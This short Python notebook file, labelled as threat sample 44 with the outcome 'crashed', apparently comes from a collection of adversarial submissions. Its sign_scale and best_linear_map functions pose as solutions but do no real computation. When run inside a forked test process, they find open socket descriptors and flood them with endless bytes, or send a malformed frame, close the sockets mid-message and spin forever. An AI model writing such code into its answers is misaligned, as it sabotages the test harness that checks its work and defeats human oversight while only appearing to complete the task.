# threat: 44
# fails: sign_scale, best_linear
# outcome: crashed
# Bytes without end instead of an answer, and a socket that is closed in the middle of one.

# %% sign_scale
import os
import stat
import struct


notebook = os.getpid()


def armed():
    return os.getpid() != notebook  # in a copy, as tests meet it, and not when a later cell calls


def sockets():
    for descriptor in range(3, 256 * armed()):
        try:
            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                yield descriptor
        except OSError:
            pass


def sign_scale(c, d):
    chosen = list(sockets())
    while armed():
        for descriptor in chosen:
            try:
                os.write(descriptor, b"\xff" * 2**16)
            except OSError:
                os._exit(0)

# %% best_linear
def best_linear_map(x, y):
    for descriptor in sockets():
        try:
            os.write(descriptor, struct.pack(">IQ", 1000, 1000) + b"half")
            os.close(descriptor)
        except OSError:
            pass
    while armed():
        pass
